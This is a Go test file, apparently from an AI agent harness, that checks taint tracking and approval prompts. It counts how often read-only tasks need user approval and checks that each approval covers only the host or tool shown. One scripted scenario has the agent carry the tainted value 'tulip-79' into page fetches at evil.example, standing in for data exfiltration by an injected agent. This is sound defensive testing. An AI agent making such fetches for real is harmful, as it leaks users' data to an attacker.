package injection_test

import (
	"strings"
	"testing"

	"steward/internal/effect"
	"steward/internal/taint"
	"steward/internal/turn"
)

// unasked is how many of the tasks in reading.txt run without a question.
const unasked = 162

// Everyday tasks that only read seldom need a question.
func TestTasksThatOnlyReadAskSeldom(t *testing.T) {
	e := newEveryday(t)
	list := lines(t, "reading.txt")
	if len(list) != 200 {
		t.Fatalf("%d tasks", len(list))
	}
	free := 0
	for _, line := range list {
		say, calls, _ := strings.Cut(line, " | ")
		n := e.do(say, e.rounds(dates.Replace(calls)))
		if n == 0 {
			free++
		} else {
			t.Logf("%d %s: %v", n, say, e.reads)
		}
		if got, want := len(e.calls), strings.Count(calls, " ; ")+strings.Count(calls, " & ")+1-strings.Count(calls, taint.ExtractTool); got != want {
			t.Errorf("%s: %d calls were made instead of %d", say, got, want)
		}
	}
	t.Logf("%d of %d tasks that only read need no question", free, len(list))
	if free != unasked {
		t.Errorf("%d tasks need no question; write it down here and in docs/operations/security.md", free)
	}
}

// A yes covers the host or the tool that was shown, and nothing else of the same server.
func TestAnAnswerCoversThePlaceThatWasShown(t *testing.T) {
	e := newEveryday(t)
	page := func(url string) call { return call{"search.page", map[string]any{"url": url}} }
	carry := call{"search.web", map[string]any{"query": "tulip-79"}}
	rounds := [][]call{{{"notes.read", map[string]any{"id": "n2"}}}, {carry}, {carry, page("https://evil.example/tulip")}, {page("https://evil.example/79")},
		{page("https://other.example/79")}, {page("https://evil.example/7")}, {{"tickets.get", map[string]any{"id": "T-104"}}}, {{"tickets.search", map[string]any{"query": "tulip"}}}}
	var reasons []string
	yes := e.decide
	e.decide = func(q turn.ApprovalView) effect.Decision {
		reasons = append(reasons, q.Reason)
		return yes(q)
	}
	if n := e.do("Go on.", rounds); n != 5 || len(e.calls) != 9 {
		t.Errorf("%d questions, %d calls: %q", n, len(e.calls), reasons)
	}
	for i, place := range []string{"search.web", "evil.example", "other.example", "tickets.get", "tickets.search"} {
		if i < len(reasons) && !strings.Contains(reasons[i], "the answer counts for all reads of "+place+" in this turn") {
			t.Errorf("question %d: %s", i, reasons[i])
		}
	}
}
